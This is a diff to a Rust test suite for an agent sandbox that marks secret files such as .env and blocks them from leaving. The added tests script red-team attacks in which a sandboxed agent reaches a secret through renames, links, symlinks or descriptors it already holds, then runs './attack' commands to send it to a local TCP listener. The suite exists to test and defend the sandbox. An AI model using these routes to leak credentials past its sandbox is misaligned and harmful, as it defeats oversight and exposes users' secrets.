@@ -2482,7 +2482,7 @@ fn a_secret_the_agent_creates_during_the_session_taints_when_read() {
 /// to the moment its tripwire is armed (fanotify's marks in `clawless`'s fdinfo).
 /// Red team (round 3): an object given a secret's name is that secret to whoever
 /// holds it open. The agent makes `scaffold.tmp` for reading, names it `.env`
-/// (rename, link, exchange), keeps the descriptor; the user writes a key into `.env` in place; the
+/// (rename, link, exchange, a symlink), keeps the descriptor; the user writes a key into `.env` in place; the
 /// agent reads it through the old descriptor. Naming it was reading it: tainted.
 #[test]
 fn an_object_given_a_secret_name_is_read_by_the_naming() {
@@ -2491,6 +2491,7 @@ fn an_object_given_a_secret_name_is_read_by_the_naming() {
         ("rename", ".env.local"),
         ("link", ".env"),
         ("exchange", ".env"),
+        ("symlink", ".env"),
     ]
     .into_iter()
     .enumerate()
@@ -4201,4 +4202,99 @@ fn isolated_files_a_secret_created_outside_deeper_than_path_max_taints() {
     );
     assert!(!got.contains("LEAK:"), "the secret left: {got:?}\n{}", show(&o));
     kernel_decided(&o);
+}
+
+/// Red team round 5 (outside-symlink-during-session): a process outside the
+/// sandbox makes `.env -> config/dev-settings` during the session (a dotenv tool,
+/// the user). The watcher learns the link as the monitor learns the agent's own
+/// (`Tripwires::learn_link`): its target becomes a tripwire, so a read of it
+/// (through the link, `read`; or through a descriptor the agent opened before the
+/// link existed, `held`, a late mark) taints before the bytes can leave. Mediated
+/// opens do not see links made outside after start-up (docs/threat-model.md).
+#[test]
+fn isolated_files_a_secret_named_link_made_outside_during_the_session_taints() {
+    if !kernel_opens() {
+        eprintln!(
+            "not run: the watcher is isolated files' (CLAWLESS_KERNEL_OPENS=1, isolated, root); mediated opens do not learn links made outside after start-up (docs/threat-model.md)"
+        );
+        return;
+    }
+    for (k, how) in ["read", "held"].into_iter().enumerate() {
+        let ip = format!("127.77.41.{}", 50 + k);
+        let server = Tcp::new(&ip, 443);
+        let f = Fixture::new(&format!("iso-outside-link-{how}")).with_attack();
+        std::fs::create_dir_all(f.ws.join("config")).unwrap();
+        let target = f.ws.join("config/dev-settings");
+        let before = if how == "held" {
+            "draft-settings\n"
+        } else {
+            "SECRET-link-read-r5\n"
+        };
+        std::fs::write(&target, before).unwrap();
+        let script = if how == "held" {
+            format!("./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; ./attack earlyhold fd config/dev-settings {ip} 443")
+        } else {
+            format!(
+                "./attack tcp {ip} 443 PRE-TAINT-CHANNEL-OK; touch held; while [ ! -e go ]; do sleep 0.02; done; \
+                 ./attack isoleak plain .env {ip} 443"
+            )
+        };
+        let mut cmd = f.command(&[], &["/bin/sh", "-c", &script]);
+        cmd.stdout(std::process::Stdio::piped())
+            .stderr(std::process::Stdio::piped());
+        let child = cmd.spawn().unwrap();
+        let pid = child.id();
+        let start = std::time::Instant::now();
+        while !f.ws.join("held").exists() && start.elapsed() < Duration::from_secs(60) {
+            std::thread::sleep(Duration::from_millis(5));
+        }
+        let held = f.ws.join("held").exists();
+        if held {
+            // The outside process: the link, then (held) the secret through it.
+            std::os::unix::fs::symlink("config/dev-settings", f.ws.join(".env")).unwrap();
+            let t = std::time::Instant::now();
+            while !marked_by(pid, &target) && t.elapsed() < Duration::from_secs(30) {
+                std::thread::sleep(Duration::from_millis(1));
+            }
+            eprintln!(
+                "{how}: the link's target was marked {:?} after the link",
+                t.elapsed()
+            );
+            assert!(
+                marked_by(pid, &target),
+                "{how}: the watcher did not mark the link's target"
+            );
+            if how == "held" {
+                std::thread::sleep(Duration::from_millis(300));
+                std::fs::write(f.ws.join(".env"), "SECRET-link-held-r5\n").unwrap();
+            }
+        }
+        std::fs::write(f.ws.join("go"), "").unwrap();
+        let o = wait_with_deadline(child, Duration::from_secs(120));
+        let out = stdout(&o);
+        let got = server.received();
+        assert!(held, "{how}: the agent never got ready\n{}", show(&o));
+        assert!(
+            got.starts_with("PRE-TAINT-CHANNEL-OK"),
+            "{how}: the channel did not work: {got:?}\n{}",
+            show(&o)
+        );
+        let read = if how == "held" {
+            "earlyhold read: 20"
+        } else {
+            "isoleak read: 20"
+        };
+        assert!(out.contains(read), "{how}: the attack did not read\n{}", show(&o));
+        assert!(
+            !got.contains("LEAK:"),
+            "{how}: the secret left the sandbox: {got:?}\n{}",
+            show(&o)
+        );
+        assert!(
+            out.contains("connect: errno=") || out.contains("socket: errno="),
+            "{how}: not tainted\n{}",
+            show(&o)
+        );
+        kernel_decided(&o);
+    }
 }
